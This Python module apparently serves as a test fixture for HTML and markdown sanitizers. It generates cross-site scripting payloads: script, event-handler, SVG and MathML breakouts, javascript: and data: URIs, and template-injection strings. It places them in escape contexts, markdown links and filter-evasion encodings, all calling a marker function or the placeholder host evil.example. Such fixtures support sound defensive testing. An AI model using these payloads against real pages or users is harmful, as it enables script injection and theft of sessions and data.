"""Markup that wants to run: seeds, each in contexts to break out of and in several writings.

Whatever runs calls `fired()`; whatever loads asks `evil.example`. Nothing is random.
"""

from __future__ import annotations

import base64
import html
import re
from collections.abc import Callable, Iterator
from urllib.parse import quote

CALL = "fired()"
HOST = "evil.example"
_ENCODED_CALL = base64.b64encode(f"<script>{CALL}</script>".encode()).decode()

MARKUP = (
    f"<script>{CALL}</script>",
    f"<script src=//{HOST}/x.js></script>",
    f"<script type=module>import 'http://{HOST}/x.mjs'</script>",
    f"<img src=x onerror={CALL}>",
    f"<img src=//{HOST}/x.png onload={CALL}>",
    f"<img srcset='//{HOST}/x.png 1x' alt=x>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{CALL}></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={CALL}>#x'></svg>",
    f"<svg><foreignObject><iframe onload={CALL}></foreignObject></svg>",
    f'<svg></p><style><a id="</style><img src=1 onerror={CALL}>">',
    f"<math><mtext><table><mglyph><style><!--</style><img src=1 onerror={CALL}>",
    f"<math href=javascript:{CALL}>click</math>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src=//{HOST}/></iframe>",
    f"<object data=javascript:{CALL}></object>",
    f"<object data=//{HOST}/x.svg></object>",
    f"<embed src=//{HOST}/x.swf>",
    f"<body onload={CALL}>",
    f"<body onpageshow={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}></select>",
    f"<textarea autofocus onfocus={CALL}></textarea>",
    f"<button autofocus onfocus={CALL}>x</button>",
    f"<button popovertarget=x>x</button><b popover id=x onbeforetoggle={CALL}>x</b>",
    f"<details open ontoggle={CALL}><summary>x</summary></details>",
    f"<video><source onerror={CALL}></video>",
    f"<video src=//{HOST}/x.mp4 onloadstart={CALL}>",
    f"<audio src=x onerror={CALL}>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<style>@import '//{HOST}/x.css'</style>",
    f"<style>*{{background:url(//{HOST}/x.png)}}</style>",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={CALL}>x</b>",
    f"<b style=background:url(//{HOST}/x.png) onmouseover={CALL}>x</b>",
    f"<link rel=stylesheet href=//{HOST}/x.css onload={CALL}>",
    f"<link rel=prefetch href=//{HOST}/x>",
    f"<base href=//{HOST}/>",
    f"<meta http-equiv=refresh content='0;url=//{HOST}/'>",
    f"<form action=javascript:{CALL}><button>go</button></form>",
    f"<form><button formaction=javascript:{CALL}>go</button></form>",
    f"<a href=javascript:{CALL}>click</a>",
    f"<a href=//{HOST}/ ping=//{HOST}/ping>click</a>",
    f"<x onclick={CALL} tabindex=1 id=x>click</x>",
    f"<template><script>{CALL}</script></template>",
    f"<template shadowrootmode=open><script>{CALL}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<title><a href='</title><img src=x onerror={CALL}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={CALL}>'></xmp>",
    f"<!--><img src=x onerror={CALL}>-->",
    f"<!--[if IE]><script>{CALL}</script><![endif]-->",
    f"<![CDATA[><img src=x onerror={CALL}>]]>",
    f"<?xml version='1.0'?><img src=x onerror={CALL}>",
    f"<form id=getElementById><input name=attributes onfocus={CALL} autofocus></form>",
    f"<dateline-chat src=//{HOST} open onclick={CALL}></dateline-chat>",
)
"""As HTML."""

ADDRESSES = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    f"java\nscript:{CALL}",
    f" javascript:{CALL}",
    f"\x01javascript:{CALL}",
    f"javascript&colon;{CALL}",
    f"javascript:\u2028{CALL}",
    f"javascript://{HOST}/%0a{CALL}",
    f"data:text/html;base64,{_ENCODED_CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"data:image/svg+xml,<svg onload={CALL}>",
    f"vbscript:{CALL}",
    f"blob:http://{HOST}/x",
    f"view-source:http://{HOST}/",
    f'http://{HOST}/" onmouseover="{CALL}',
    f"http://{HOST}/'><img src=x onerror={CALL}>",
    f"https://{HOST}/#:~:text={CALL}",
    f"//{HOST}/x",
    f"\\\\{HOST}\\x",
)
"""As a link's."""

EXPRESSIONS = (
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"${{{CALL}}}",
    f"<%= {CALL} %>",
    f"#{{{CALL}}}",
    f"';{CALL};'",
    f'";{CALL};"',
    f"`${{{CALL}}}`",
    f"]}}}});{CALL};//",
    "__proto__",
    "constructor",
    f"\u202e<script>{CALL}</script>",
    f"&lt;img src=x onerror={CALL}&gt;",
)
"""As code, or as a name of one's own."""

CONTEXTS: dict[str, str] = {
    "alone": "{}",
    "in a sentence": "The mayor said {} on Tuesday.",
    "out of an attribute": '">{}',
    "out of a single-quoted attribute": "' autofocus>{}",
    "out of a tag of text": "</title></textarea></style></script>{}",
    "out of a comment": "-->{}<!--",
    "in bold": "**{}**",
    "in code": "`{}`",
    "in a block of code": "```html\n{}\n```",
    "in a list": "- one\n- {}",
    "in a table": "| a | b |\n|---|---|\n| {} | x |",
    "under a heading": "# {}\n\nx",
}
LINKS: dict[str, str] = {
    "a link": "[click]({})",
    "a link in brackets": "[click](<{}>)",
    "a link with a title": '[click]({} "x")',
    "an image": "![x]({})",
    "an image in a link": "[![x]({0})]({0})",
    "a reference": "[click][r]\n\n[r]: {}",
    "an autolink": "<{}>",
    "a citation": "[1]({})",
    "an element": "<a href='{}'>click</a>",
}


def _mixed_case(text: str) -> str:
    """Every second letter is a capital, but in the call: JavaScript tells them apart."""
    pieces = text.split(CALL)
    turned = ("".join(c.upper() if i % 2 else c for i, c in enumerate(p)) for p in pieces)
    return CALL.join(turned)


WRITINGS: dict[str, Callable[[str], str]] = {
    "plain": str,
    "mixed case": _mixed_case,
    "slashes for spaces": lambda text: re.sub(r"(?<=[a-z]) (?=[a-z]+=)", "/", text),
    "control characters": lambda text: text.replace("=", "\x0c=\x0c").replace("<", "<\x00", 1),
    "entities": html.escape,
    "numbered entities": lambda text: "".join(f"&#{ord(c)};" for c in text),
    "percent": quote,
    "escapes": lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    "full width": lambda text: text.translate({ord("<"): "＜", ord(">"): "＞", ord(":"): "："}),
    "twice": lambda text: re.sub("<([a-z]+)", r"<<\1 <\1", text),
}


def payloads() -> list[str]:
    """All that are different, in a fixed order."""
    return list(dict.fromkeys(_payloads()))


def _payloads() -> Iterator[str]:
    for seed in MARKUP + EXPRESSIONS:
        yield from (context.format(seed) for context in CONTEXTS.values())
        yield from (write(seed) for write in WRITINGS.values())
    for address in ADDRESSES:
        yield address
        yield from (link.format(address) for link in LINKS.values())
        yield from (LINKS["a link"].format(write(address)) for write in WRITINGS.values())
